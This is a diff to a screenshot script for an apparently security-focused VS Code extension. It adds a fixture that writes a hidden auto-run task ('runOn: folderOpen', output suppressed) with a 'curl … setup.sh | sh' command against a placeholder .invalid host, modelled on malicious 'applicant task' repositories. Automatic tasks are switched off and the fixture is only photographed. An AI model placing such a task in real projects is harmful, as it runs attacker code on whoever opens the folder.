@@ -1,12 +1,12 @@
 // `npm run screenshots [-- dark|light|contrast …]`: the README's pictures and those of the gallery, of the example project as the
 // real registry answers today. With themes named, only the gallery's in these.
-import { cp, mkdir, mkdtemp, rm } from 'node:fs/promises';
+import { cp, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import process from 'node:process';
 import type { Locator, Page } from 'playwright-core';
 import { PROJECT_ROOT } from './build/project-root.js';
-import { takeGallery } from './gallery-pictures.js';
+import { takeGallery, takeRepository, type TakePicture } from './gallery-pictures.js';
 import { newestBuild } from './vscode/builds.js';
 import { ensureChromium } from './vscode/chromium.js';
 import { type Cleanup, withCleanup } from './vscode/cleanup.js';
@@ -40,6 +40,8 @@ const SETTINGS = {
   'editor.lightbulb.enabled': 'off',
   'editor.hover.above': false,
   'npm.fetchOnlinePackageInfo': false,
+  // What the picture of a hostile folder shows is not to run.
+  'task.allowAutomaticTasks': 'off',
 };
 
 /** In CSS pixels; sharp on screens with two device pixels for each. */
@@ -47,20 +49,41 @@ const SIZE = { width: 1100, height: 860, scale: 2 };
 /** There are many of them, and nobody prints them. */
 const GALLERY_SIZE = { ...SIZE, width: 1000, scale: 1 };
 
-async function openExample(cleanup: Cleanup, theme: Theme, size: typeof SIZE): Promise<Page> {
+/** Makes what is opened in an empty folder, and says which of its files is shown. */
+type Content = (folder: string) => Promise<string>;
+
+async function example(folder: string): Promise<string> {
+  await cp(path.join(PROJECT_ROOT, 'examples', 'shop'), folder, { recursive: true });
+  return 'package.json';
+}
+
+/** A task for an applicant, as they have been handed out; what it fetches is nowhere. */
+async function hostileTask(folder: string): Promise<string> {
+  const [file, scripts] = ['.vscode/tasks.json', { start: 'node server.js', test: 'mocha' }];
+  const command = 'curl -fsSL https://tools.shop.invalid/setup.sh | sh';
+  const presentation = { reveal: 'never', echo: false };
+  const task = { label: 'env', type: 'shell', command, presentation, runOptions: { runOn: 'folderOpen' } };
+  await mkdir(path.join(folder, '.vscode'), { recursive: true });
+  await writeFile(path.join(folder, file), `${JSON.stringify({ version: '2.0.0', tasks: [task] }, undefined, 2)}\n`);
+  await writeFile(path.join(folder, 'package.json'), `${JSON.stringify({ name: 'task', scripts }, undefined, 2)}\n`);
+  await writeFile(path.join(folder, 'server.js'), "console.log('a shop');\n");
+  return file;
+}
+
+async function openWindow(cleanup: Cleanup, theme: Theme, size: typeof SIZE, content: Content): Promise<Page> {
   const say = (message: string): void => console.log(message);
   const chromium = await ensureChromium(say);
   const installation = await installVscode(newestBuild(), say);
   const scratch = await mkdtemp(path.join(os.tmpdir(), 'package-risk-screenshots-'));
   cleanup.add(() => rm(scratch, { recursive: true, force: true, maxRetries: 5, retryDelay: 100 }));
   const workspace = path.join(scratch, 'shop');
-  await cp(path.join(PROJECT_ROOT, 'examples', 'shop'), workspace, { recursive: true });
+  const file = await content(workspace);
   await addExtension(scratch, PROJECT_ROOT);
   const env = { PATH: await pathWithoutNpm(scratch) };
   const settings = { ...SETTINGS, 'workbench.colorTheme': THEMES[theme] };
   const server = await startVscodeServer(installation, { dataFolder: scratch, settings, env }, cleanup);
   const page = await openBrowser({ executable: chromium, ...size }, cleanup);
-  await page.goto(workbenchUrl(server, { workspace, file: path.join(workspace, 'package.json') }));
+  await page.goto(workbenchUrl(server, { workspace, file: path.join(workspace, file) }));
   return page;
 }
 
@@ -111,18 +134,24 @@ async function main(page: Page): Promise<void> {
   await takePicture(page, 'quick-fix', 560);
 }
 
+function intoGallery(page: Page): TakePicture {
+  return (name, height) => takePicture(page, path.join('gallery', name), height, GALLERY_SIZE.width);
+}
+
 async function gallery(page: Page, theme: Theme): Promise<void> {
   await judged(page);
   await page.keyboard.press('Control+B');
   await page.keyboard.press('Control+1');
-  await takeGallery(page, theme, (name, height) =>
-    takePicture(page, path.join('gallery', name), height, GALLERY_SIZE.width),
-  );
+  await takeGallery(page, theme, intoGallery(page));
 }
 
 const named = process.argv.slice(2).filter((one): one is Theme => one in THEMES);
 await mkdir(path.join(TARGET, 'gallery'), { recursive: true });
-if (named.length === 0) await withCleanup(async (cleanup) => main(await openExample(cleanup, 'dark', SIZE)));
+if (named.length === 0) await withCleanup(async (cleanup) => main(await openWindow(cleanup, 'dark', SIZE, example)));
 for (const theme of named.length === 0 ? (Object.keys(THEMES) as Theme[]) : named) {
-  await withCleanup(async (cleanup) => gallery(await openExample(cleanup, theme, GALLERY_SIZE), theme));
+  await withCleanup(async (cleanup) => gallery(await openWindow(cleanup, theme, GALLERY_SIZE, example), theme));
+  await withCleanup(async (cleanup) => {
+    const page = await openWindow(cleanup, theme, GALLERY_SIZE, hostileTask);
+    await takeRepository(page, theme, intoGallery(page));
+  });
 }
